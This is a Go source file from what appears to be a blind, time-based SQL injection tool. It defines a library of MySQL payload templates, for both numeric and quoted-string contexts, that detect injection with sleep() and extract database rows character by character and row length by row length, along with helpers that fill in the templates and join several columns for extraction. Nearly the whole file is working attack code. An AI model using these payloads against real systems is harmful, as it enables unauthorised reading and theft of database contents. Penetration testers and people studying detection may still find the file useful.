// Package payload holds the blind-SQLi payload template library and the
// builder that selects a working template family for a parameter by
// probing the target under a sleep threshold.
package payload

import (
	"strconv"
	"strings"
)

// Template placeholders. Templates are plain strings carrying named
// placeholders that Render substitutes; unknown placeholders are left
// untouched so a template can be rendered in stages (sleep time first,
// condition and value later).
const (
	PlaceholderColumnName = "{column_name}"
	PlaceholderTableName  = "{table_name}"
	PlaceholderRowIndex   = "{row_index}"
	PlaceholderCharIndex  = "{char_index}"
	PlaceholderCondition  = "{condition}"
	PlaceholderValue      = "{value}"
	PlaceholderSleepTime  = "{sleep_time}"
)

// Family is a coordinated triple of payload templates sharing the same
// SQL escaping context: one to test for the vulnerability, one to fetch a
// character of a row, and one to fetch the length of a row.
type Family struct {
	Test           string
	FetchChar      string
	FetchRowLength string
}

// DefaultFamilies returns the ordered template library (MySQL). Family 0
// breaks out of a numeric context; family 1 breaks out of a single-quoted
// string literal and comments out the remainder of the query.
func DefaultFamilies() []Family {
	return []Family{
		{
			Test:           "1 and 0 or sleep({sleep_time})",
			FetchChar:      "1 and 0 or if(ord(mid((select {column_name} from {table_name} limit {row_index},1),{char_index},1)){condition}{value}, sleep({sleep_time}), sleep(0))",
			FetchRowLength: "1 and 0 or if(char_length((select {column_name} from {table_name} limit {row_index},1)){condition}{value}, sleep({sleep_time}), sleep(0))",
		},
		{
			Test:           "1' and 0 or sleep({sleep_time}) -- -",
			FetchChar:      "1' and 0 or if(ord(mid((select {column_name} from {table_name} limit {row_index},1),{char_index},1)){condition}{value}, sleep({sleep_time}), sleep(0)) -- -",
			FetchRowLength: "1' and 0 or if(char_length((select {column_name} from {table_name} limit {row_index},1)){condition}{value}, sleep({sleep_time}), sleep(0)) -- -",
		},
	}
}

// Render substitutes the given placeholder/value pairs into a template.
// Pairs are given as placeholder, value, placeholder, value, ...
func Render(template string, pairs ...string) string {
	return strings.NewReplacer(pairs...).Replace(template)
}

// FormatSleepTime renders a sleep time in seconds the way it appears in a
// payload: the shortest decimal representation (0.5, 2, 0.375, ...).
func FormatSleepTime(seconds float64) string {
	return strconv.FormatFloat(seconds, 'f', -1, 64)
}

// ColumnsConcat returns the expression to use as the column name in a
// payload, and the separator that the expression places between column
// values. A single column is used verbatim; multiple columns are joined
// with concat(), interleaving char(9) so the fetched row can be split
// back into columns on the tab character.
func ColumnsConcat(columns []string) (expr, separator string) {
	if len(columns) == 1 {
		return columns[0], "\t"
	}
	parts := make([]string, 0, 2*len(columns)-1)
	for i, c := range columns {
		parts = append(parts, c)
		if i < len(columns)-1 {
			parts = append(parts, "char(9)")
		}
	}
	return "concat(" + strings.Join(parts, ",") + ")", "\t"
}
